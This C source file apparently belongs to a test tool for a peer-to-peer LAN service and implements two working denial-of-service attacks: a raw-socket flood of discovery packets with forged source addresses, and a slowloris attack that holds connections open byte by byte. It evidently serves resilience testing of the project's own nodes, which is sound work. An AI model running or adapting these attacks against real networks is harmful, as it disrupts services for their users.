/*
 * pc-peer-attack.c - pc-peer-tool's attacks on a node's LAN services that
 * a host without credentials can make (see pc-peer-tool.c for the tool):
 *
 *   spoof      valid discovery packets from many source addresses, forged
 *              with a raw socket (a flood of probes a node must not let
 *              crowd out its real neighbours; a table flood; port rotation)
 *   slowloris  many connections to a peer server that send a request head
 *              one byte at a time, and what the server did with them
 *
 * Like the rest of the tool it is written from docs/PROTOCOL.md alone.
 * Every wait has a deadline; results go to stdout as one "word key=value"
 * line.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "pc-peer-tool.h"

/* ---- spoof ----------------------------------------------------------------
 *
 * Each datagram is a valid untagged (or --key tagged) packet of --type
 * (probe by default) for the first --ids ids of --hashes-file (random ids
 * when there is no file), from a source address drawn at random in
 * --sources (a CIDR block; its network and broadcast addresses are never
 * used) and UDP port 8082, announcing the HTTP ports of --http-ports in
 * turn.  The answers go to addresses nobody holds, so nothing comes back.
 * Prints
 *
 *   spoof sent=N send_errors=N sources=N ms=N
 */

struct spoof {
	struct sockaddr_in to;
	uint32_t net, hosts; /* host order: first usable address, how many */
	uint16_t port_first, port_count, next_port;
	uint8_t type;
	size_t nids;
	uint8_t body[MAX_IDS * ID_LEN];
	struct fleet_key key;
};

static void spoof_parse_sources(struct spoof *s, const char *cidr)
{
	char addr[32];
	const char *slash = strchr(cidr, '/');
	unsigned long len = 32;
	struct in_addr in;
	uint32_t mask;

	if (!slash || (size_t)(slash - cidr) >= sizeof(addr))
		die("--sources: '%s' is not a.b.c.d/len", cidr);
	memcpy(addr, cidr, (size_t)(slash - cidr));
	addr[slash - cidr] = '\0';
	len = parse_number(slash + 1, "--sources length", 32);
	if (inet_pton(AF_INET, addr, &in) != 1 || len < 1)
		die("--sources: '%s' is not a.b.c.d/len", cidr);
	mask = len == 32 ? ~0u : ~(~0u >> len);
	s->net = ntohl(in.s_addr) & mask;
	s->hosts = (uint32_t)(~mask) + 1;
	if (s->hosts > 2) { /* not the network, not the broadcast */
		s->net++;
		s->hosts -= 2;
	}
}

static void spoof_parse_ports(struct spoof *s, const char *text)
{
	unsigned long first, last;
	char *end;

	first = strtoul(text, &end, 10);
	last = *end == '-' ? strtoul(end + 1, &end, 10) : first;
	if (*end || first == 0 || last < first || last > 65535)
		die("--http-ports: '%s' is not N or N-M", text);
	s->port_first = (uint16_t)first;
	s->port_count = (uint16_t)(last - first + 1);
}

/* One IPv4 + UDP datagram from @src into @buf; its length. */
static size_t spoof_build(struct spoof *s, uint8_t *buf, uint32_t src)
{
	struct iphdr *ip = (struct iphdr *)(void *)buf;
	struct udphdr *udp = (struct udphdr *)(void *)(buf + sizeof(*ip));
	uint8_t *payload = buf + sizeof(*ip) + sizeof(*udp);
	uint16_t http_port = (uint16_t)(s->port_first + s->next_port);
	size_t len;

	s->next_port = (uint16_t)((s->next_port + 1) % s->port_count);
	len = packet_build(
		payload, s->type, (uint8_t)s->nids, random_u32(),
		s->type == MSG_PROBE && s->port_first == 0 ? 0 : http_port,
		s->body, s->nids * ID_LEN, &s->key);
	memset(ip, 0, sizeof(*ip));
	ip->version = 4;
	ip->ihl = sizeof(*ip) / 4;
	ip->ttl = 1;
	ip->protocol = IPPROTO_UDP;
	ip->saddr = htonl(src);
	ip->daddr = s->to.sin_addr.s_addr;
	ip->tot_len = htons((uint16_t)(sizeof(*ip) + sizeof(*udp) + len));
	/* The kernel fills in the id and the header checksum; a zero UDP
	 * checksum means "none" over IPv4. */
	udp->source = htons(DISC_PORT);
	udp->dest = s->to.sin_port;
	udp->len = htons((uint16_t)(sizeof(*udp) + len));
	udp->check = 0;
	return sizeof(*ip) + sizeof(*udp) + len;
}

int cmd_spoof(int argc, char **argv)
{
	static const struct option longopts[] = {
		{ "sources", required_argument, NULL, 's' },
		{ "packets", required_argument, NULL, 'n' },
		{ "rate", required_argument, NULL, 'r' },
		{ "hashes-file", required_argument, NULL, 'f' },
		{ "ids", required_argument, NULL, 'i' },
		{ "http-ports", required_argument, NULL, 'p' },
		{ "type", required_argument, NULL, 't' },
		{ "key", required_argument, NULL, 'k' },
		{ NULL, 0, NULL, 0 },
	};
	struct spoof s = { .type = MSG_PROBE, .nids = 1 };
	unsigned long packets = 1000, rate = 0, errors = 0, sent = 0;
	struct id_list ids = { 0 };
	uint8_t buf[sizeof(struct iphdr) + sizeof(struct udphdr) + PACKET_MAX];
	uint64_t start, rng;
	int opt, fd;

	while ((opt = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
		switch (opt) {
		case 's':
			spoof_parse_sources(&s, optarg);
			break;
		case 'n':
			packets = parse_number(optarg, "--packets", 100000000);
			break;
		case 'r':
			rate = parse_number(optarg, "--rate", 10000000);
			break;
		case 'f':
			id_list_load(&ids, optarg);
			break;
		case 'i':
			s.nids = parse_number(optarg, "--ids", MAX_IDS);
			break;
		case 'p':
			spoof_parse_ports(&s, optarg);
			break;
		case 't':
			s.type = strcmp(optarg, "probe") == 0	? MSG_PROBE
				 : strcmp(optarg, "claim") == 0 ? MSG_CLAIM
								: 0;
			if (!s.type)
				die("--type: probe or claim");
			break;
		case 'k':
			key_load(optarg, &s.key);
			break;
		default:
			return 2;
		}
	}
	if (optind + 1 != argc || s.hosts == 0 || s.nids == 0)
		die("usage: spoof HOST[:PORT] --sources CIDR [--packets N] "
		    "[--rate PPS] [--hashes-file F] [--ids N] "
		    "[--http-ports N[-M]] [--type probe|claim] [--key F]");
	parse_endpoint(argv[optind], DISC_PORT, &s.to);
	if (s.port_count == 0)
		s.port_count = 1; /* port_first 0: probes announce none */
	if (s.type != MSG_PROBE && s.port_first == 0)
		s.port_first = PEER_PORT;
	for (size_t i = 0; i < s.nids; i++) {
		if (i < ids.n)
			memcpy(s.body + i * ID_LEN, ids.ids[i], ID_LEN);
		else
			random_bytes(s.body + i * ID_LEN, ID_LEN);
	}
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0)
		die("raw socket: %s (needs CAP_NET_RAW)", strerror(errno));
	random_bytes(&rng, sizeof(rng));
	start = now_ms();
	while (sent < packets && !stop_requested) {
		uint32_t src = s.net + (uint32_t)(mix_next(&rng) % s.hosts);
		size_t len = spoof_build(&s, buf, src);

		if (rate) {
			uint64_t due = start + sent * 1000 / rate;

			while (now_ms() < due && !stop_requested)
				sleep_ms((unsigned)(due - now_ms()));
		}
		if (sendto(fd, buf, len, 0, (struct sockaddr *)&s.to,
			   sizeof(s.to)) != (ssize_t)len)
			errors++;
		sent++;
	}
	printf("spoof sent=%lu send_errors=%lu sources=%u ms=%llu\n", sent,
	       errors, s.hosts, (unsigned long long)(now_ms() - start));
	close(fd);
	free(ids.ids);
	free(ids.sizes);
	return 0;
}

/* ---- slowloris ------------------------------------------------------------
 *
 * --connections connections to a peer server (round-robin over --sources
 * local addresses), each sending the head of a GET one byte every
 * --interval ms and never finishing it.  A connection the server closes
 * is counted by how long it lived: "refused" within 1 s of being accepted
 * (a server over a limit closes at once), "closed" later (a deadline).
 * With --reopen a closed connection is replaced at once, as a real
 * attacker would.  After --seconds it prints
 *
 *   slowloris connections=N opened=N refused=N closed=N open=N
 *             closed_min_ms=N closed_max_ms=N
 */

#define SLOW_MAX 4096
#define SLOW_REFUSED_MS 1000

struct slow_conn {
	int fd;
	uint64_t opened; /* 0: free */
	uint64_t next_byte;
	size_t sent;
	struct sockaddr_in from;
};

struct slowloris {
	struct sockaddr_in to;
	unsigned interval_ms;
	unsigned long opened, failed, refused, closed;
	uint64_t closed_min, closed_max;
};

static const char slow_head[] = "GET "
				"/p2p/"
				"0000000000000000000000000000000000000000000000"
				"000000000000000000"
				" HTTP/1.1\r\nHost: peer\r\nX-Padding: ";

static void slow_open(struct slowloris *s, struct slow_conn *c)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	c->fd = -1;
	c->opened = 0;
	if (fd < 0)
		die("socket: %s", strerror(errno));
	if ((c->from.sin_addr.s_addr &&
	     bind(fd, (struct sockaddr *)&c->from, sizeof(c->from)) < 0) ||
	    (connect(fd, (struct sockaddr *)&s->to, sizeof(s->to)) < 0 &&
	     errno != EINPROGRESS)) {
		s->failed++;
		close(fd);
		return;
	}
	c->fd = fd;
	c->opened = now_ms();
	c->next_byte = c->opened;
	c->sent = 0;
	s->opened++;
}

/* The server ended @c: counted by how long it lived. */
static void slow_ended(struct slowloris *s, struct slow_conn *c, uint64_t now)
{
	uint64_t lived = now - c->opened;

	if (lived < SLOW_REFUSED_MS) {
		s->refused++;
	} else {
		s->closed++;
		if (!s->closed_min || lived < s->closed_min)
			s->closed_min = lived;
		if (lived > s->closed_max)
			s->closed_max = lived;
	}
	close(c->fd);
	c->fd = -1;
	c->opened = 0;
}

/* One step of @c: a byte when due; notices a close by the server. */
static void slow_step(struct slowloris *s, struct slow_conn *c, short revents,
		      uint64_t now)
{
	char buf[512];
	ssize_t n;

	if (revents & (POLLIN | POLLHUP | POLLERR)) {
		n = recv(c->fd, buf, sizeof(buf), MSG_DONTWAIT);
		if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR)) {
			slow_ended(s, c, now);
			return;
		}
	}
	if (now < c->next_byte || !(revents & POLLOUT))
		return;
	/* After the head's fixed part, padding forever. */
	n = send(c->fd,
		 c->sent < sizeof(slow_head) - 1 ? &slow_head[c->sent] : "a", 1,
		 MSG_NOSIGNAL | MSG_DONTWAIT);
	if (n == 1) {
		c->sent++;
		c->next_byte = now + s->interval_ms;
	} else if (n < 0 && errno != EAGAIN && errno != EINTR) {
		slow_ended(s, c, now);
	}
}

int cmd_slowloris(int argc, char **argv)
{
	static const struct option longopts[] = {
		{ "connections", required_argument, NULL, 'n' },
		{ "sources", required_argument, NULL, 's' },
		{ "interval", required_argument, NULL, 'i' },
		{ "seconds", required_argument, NULL, 'S' },
		{ "reopen", no_argument, NULL, 'r' },
		{ NULL, 0, NULL, 0 },
	};
	struct slowloris s = { .interval_ms = 4000 };
	struct sockaddr_in sources[256];
	size_t nsources = 0, n = 200;
	unsigned long seconds = 10, still_open = 0;
	struct slow_conn *conns;
	struct pollfd *pfd;
	bool reopen = false;
	uint64_t end;
	int opt;

	while ((opt = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
		switch (opt) {
		case 'n':
			n = parse_number(optarg, "--connections", SLOW_MAX);
			break;
		case 's':
			nsources = parse_sources(optarg, sources, 256);
			break;
		case 'i':
			s.interval_ms = (unsigned)parse_number(
				optarg, "--interval", 600000);
			break;
		case 'S':
			seconds = parse_number(optarg, "--seconds", 3600);
			break;
		case 'r':
			reopen = true;
			break;
		default:
			return 2;
		}
	}
	if (optind + 1 != argc || n == 0)
		die("usage: slowloris HOST[:PORT] [--connections N] "
		    "[--sources ADDR,..] [--interval MS] [--seconds S] "
		    "[--reopen]");
	parse_endpoint(argv[optind], PEER_PORT, &s.to);
	conns = calloc(n, sizeof(*conns));
	pfd = calloc(n, sizeof(*pfd));
	if (!conns || !pfd)
		die("out of memory");
	signal(SIGINT, on_signal);
	signal(SIGTERM, on_signal);
	for (size_t i = 0; i < n; i++) {
		conns[i].from = nsources ? sources[i % nsources]
					 : (struct sockaddr_in){ 0 };
		conns[i].from.sin_family = AF_INET;
		slow_open(&s, &conns[i]);
	}
	end = now_ms() + seconds * 1000;
	while (!stop_requested && now_ms() < end) {
		uint64_t now = now_ms();

		/* POLLOUT only when a byte is due: a connected socket is
		 * always writable. */
		for (size_t i = 0; i < n; i++)
			pfd[i] = (struct pollfd){
				.fd = conns[i].fd,
				.events = (short)(POLLIN |
						  (now >= conns[i].next_byte
							   ? POLLOUT
							   : 0))
			};
		poll(pfd, n, 20);
		now = now_ms();
		for (size_t i = 0; i < n; i++) {
			if (conns[i].fd < 0) {
				if (reopen)
					slow_open(&s, &conns[i]);
				continue;
			}
			slow_step(&s, &conns[i], pfd[i].revents, now);
		}
	}
	for (size_t i = 0; i < n; i++) {
		if (conns[i].fd >= 0) {
			still_open++;
			close(conns[i].fd);
		}
	}
	printf("slowloris connections=%zu opened=%lu connect_failed=%lu "
	       "refused=%lu closed=%lu open=%lu closed_min_ms=%llu "
	       "closed_max_ms=%llu\n",
	       n, s.opened, s.failed, s.refused, s.closed, still_open,
	       (unsigned long long)s.closed_min,
	       (unsigned long long)s.closed_max);
	free(conns);
	free(pfd);
	return 0;
}
